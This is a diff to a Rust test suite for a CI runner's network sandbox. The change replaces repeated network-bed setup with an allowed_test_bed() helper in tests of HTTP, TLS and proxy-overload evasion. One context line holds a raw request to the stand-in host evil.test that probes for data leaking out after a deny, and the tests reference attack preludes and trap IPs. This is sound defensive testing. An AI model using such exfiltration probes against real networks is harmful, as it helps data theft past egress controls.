@@ -16,7 +16,7 @@ use std::sync::Arc;
 
 use base64::Engine;
 use runner_agent_tests::agent::{describe, random_value, World, PY_ATTACK_PRELUDE};
-use runner_agent_tests::netbed::{allowed_test_config, settle, NetBed, TRAP_IPS};
+use runner_agent_tests::netbed::{allowed_test_bed, allowed_test_config, settle, NetBed, TRAP_IPS};
 use runner_agent_tests::require_privilege;
 
 /// A job step that writes `script` into the workspace (base64, so YAML quoting cannot
@@ -178,8 +178,7 @@ for label, addr, data in A:
 #[test]
 fn http_parsing_and_name_tricks() {
     require_privilege!();
-    let bed = NetBed::new().expect("net bed");
-    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
+    let (bed, world) = allowed_test_bed();
     let (output, events) = run_attack(
         &world,
         "http",
@@ -312,8 +311,7 @@ for label, f in A:
 #[test]
 fn connect_and_client_hello_tricks() {
     require_privilege!();
-    let bed = NetBed::new().expect("net bed");
-    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
+    let (bed, world) = allowed_test_bed();
     let (output, events) = run_attack(
         &world,
         "tls",
@@ -607,8 +605,7 @@ show("after-deny", raw(E, b"GET http://evil.test/leak-after HTTP/1.1\r\nConnecti
 #[test]
 fn overloaded_proxy_and_dns_filter_fail_closed_and_audit() {
     require_privilege!();
-    let bed = NetBed::new().expect("net bed");
-    let world = World::in_netns(bed.host_ns(), "", &allowed_test_config("", ""));
+    let (bed, world) = allowed_test_bed();
     let steps = format!(
         "  - name: raise nofile\n    run: ulimit -n 4096 || true\n{}",
         py_step("overload", OVERLOAD, &TRAP_IPS[0].to_string())
